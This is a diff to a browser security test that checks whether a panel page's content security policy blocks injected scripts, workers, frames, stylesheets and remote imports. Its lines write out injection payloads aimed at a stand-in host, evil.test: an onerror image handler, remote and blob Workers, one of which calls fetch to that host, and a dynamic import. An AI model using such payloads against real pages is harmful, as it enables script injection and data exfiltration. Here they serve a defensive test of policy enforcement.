@@ -235,8 +235,12 @@ test('what gets into the panel’s own page by whatever way runs nothing, loads 
     const far = 'http://evil.test/attacks/remote'
     const put = (tag: string, attributes: Readonly<Record<string, string>>, text = '') => {
       const element = document.createElement(tag)
-      for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value)
-      element.textContent = text
+      try {
+        for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value)
+        element.textContent = text
+      } catch {
+        // Not even set where it would run or load a script; what has become of it goes in all the same.
+      }
       document.body.append(element)
       return element
     }
@@ -249,9 +253,29 @@ test('what gets into the panel’s own page by whatever way runs nothing, loads 
     put('object', { data: `${far}.pdf` })
     put('link', { rel: 'stylesheet', href: `${far}.css` })
     put('base', { href: 'http://evil.test/' })
+    const attempts = [
+      () =>
+        document.body.insertAdjacentHTML(
+          'beforeend',
+          `<img src="${far}.png" onerror="globalThis.ran = 'markup'">`,
+        ),
+      () => new Worker(`${far}.js`),
+      () => new Worker(URL.createObjectURL(new Blob(["fetch('http://evil.test/attacks/remote')"]))),
+    ]
+    const taken = attempts.filter(attempt => {
+      try {
+        attempt()
+        return true
+      } catch {
+        return false
+      }
+    })
+    Object.assign(globalThis, { taken: taken.length })
     // Not in this call itself, which the runner lets do more than the page may.
     setTimeout(() => Reflect.construct(Function, ["globalThis.ran = 'text'"])())
   })
+  // As text: the runner would put something of its own in the place of `import`.
+  await panel.evaluate("void import('http://evil.test/attacks/remote.mjs').catch(() => undefined)")
   await expect
     .poll(() =>
       panel.evaluate(() => {
@@ -260,11 +284,18 @@ test('what gets into the panel’s own page by whatever way runs nothing, loads 
       }),
     )
     .toEqual([
-      ...['base-uri', 'frame-src', 'img-src', 'object-src'],
-      ...['script-src', 'script-src-attr', 'script-src-elem', 'style-src-elem'],
+      ...[
+        'base-uri',
+        'frame-src',
+        'img-src',
+        'require-trusted-types-for',
+        'script-src-elem',
+        'style-src-elem',
+      ],
     ])
   expect(againstPolicy.length).toBeGreaterThan(0)
   expect(await panel.evaluate(() => 'ran' in globalThis)).toBe(false)
+  expect(await panel.evaluate(() => Reflect.get(globalThis, 'taken'))).toBe(0)
   expect(pages.requests.filter(({ path }) => path.includes('remote'))).toEqual([])
 })
 
